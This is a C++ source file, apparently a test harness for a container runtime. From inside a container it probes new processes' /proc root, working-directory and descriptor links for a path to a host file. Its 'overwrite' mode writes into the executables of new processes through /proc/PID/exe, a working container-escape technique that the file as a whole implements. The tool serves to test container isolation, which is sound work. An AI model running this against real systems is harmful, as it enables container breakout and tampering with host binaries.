// hull-attacker: what an attack does from inside a container, where there are
// no libraries.
//   watch SECONDS PATH   looks at every process that appears: is there a way
//   from it to PATH, a
//                        file of the host?
//   overwrite SECONDS    tries to write to the executable of every process that
//   appears
#include <fcntl.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <string>

namespace {

int own_pid = 0;
// A runtime with threads takes several numbers.
constexpr int kAhead = 40;

void tell(const std::string &what) {
  std::printf("LEAK %s\n", what.c_str());
  std::fflush(stdout);
}

bool reads(const std::string &path) {
  const int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return false;
  std::array<char, 256> text{};
  const ssize_t got = read(fd, text.data(), text.size());
  close(fd);
  return got > 0 && std::strstr(text.data(), "the host's secret") != nullptr;
}

std::string name_of(const std::string &process) {
  std::array<char, 32> text{};
  const int fd = open((process + "/comm").c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return "?";
  const ssize_t got = read(fd, text.data(), text.size() - 1);
  close(fd);
  return got > 0 ? std::string(text.data(), static_cast<size_t>(got - 1)) : "?";
}

// By the directories that it holds: their ways up lead to the host's root, or
// they don't.
void look_at_descriptors(const std::string &process, const std::string &secret) {
  for (int fd = 0; fd < 24; ++fd) {
    std::string way = process + "/fd/" + std::to_string(fd);
    for (int up = 0; up < 12; ++up) {
      way += "/..";
      if (reads(way + secret)) tell("descriptor " + std::to_string(fd) + " of " + name_of(process));
    }
  }
}

void look_at(int pid, const std::string &secret) {
  const std::string process = "/proc/" + std::to_string(pid);
  if (reads(process + "/root" + secret)) tell("the root directory of " + name_of(process));
  std::string way = process + "/cwd";
  for (int up = 0; up < 12; ++up) {
    way += "/..";
    if (reads(way + secret)) tell("the working directory of " + name_of(process));
  }
  look_at_descriptors(process, secret);
}

// A new process gets a number above the last.
int watch(long seconds, const std::string &secret) {
  const time_t end = time(nullptr) + seconds;
  std::puts("watching");
  std::fflush(stdout);
  int last = own_pid;
  while (time(nullptr) < end) {
    for (int pid = last + 1; pid < last + kAhead; ++pid) {
      if (kill(pid, 0) != 0 && errno == ESRCH) continue;
      for (int again = 0; again < 200 && (kill(pid, 0) == 0 || errno != ESRCH); ++again)
        look_at(pid, secret);
      last = pid;
    }
  }
  return 0;
}

// Holds the executable of every new process, and writes to it as soon as nobody
// executes it.
int overwrite(long seconds) {
  const time_t end = time(nullptr) + seconds;
  std::puts("watching");
  std::fflush(stdout);
  int last = own_pid;
  std::array<int, 8> held{};
  held.fill(-1);
  size_t next = 0;
  while (time(nullptr) < end) {
    for (int pid = last + 1; pid < last + kAhead; ++pid) {
      const int exe = open(("/proc/" + std::to_string(pid) + "/exe").c_str(), O_PATH | O_CLOEXEC);
      if (exe < 0) continue;
      if (held[next] >= 0) close(held[next]);
      held[next] = exe;
      next = (next + 1) % held.size();
      if (pid > last) last = pid;
    }
    for (const int exe : held) {
      if (exe < 0) continue;
      std::array<char, 256> target{};
      const std::string link = "/proc/self/fd/" + std::to_string(exe);
      if (readlink(link.c_str(), target.data(), target.size() - 1) <= 0) continue;
      if (std::strstr(target.data(), "busybox") != nullptr) continue;  // the container's own
      const int fd = open(link.c_str(), O_WRONLY | O_CLOEXEC);
      if (fd < 0) continue;
      if (write(fd, "#!/overwritten\n", 15) == 15)
        tell(std::string("overwritten: ") + target.data());
      close(fd);
    }
  }
  return 0;
}

}  // namespace

int main(int argc, char **argv) {
  own_pid = getpid();
  const std::string verb = argc > 2 ? argv[1] : "";
  if (verb == "watch" && argc > 3) return watch(std::atol(argv[2]), argv[3]);
  if (verb == "overwrite") return overwrite(std::atol(argv[2]));
  return 2;
}
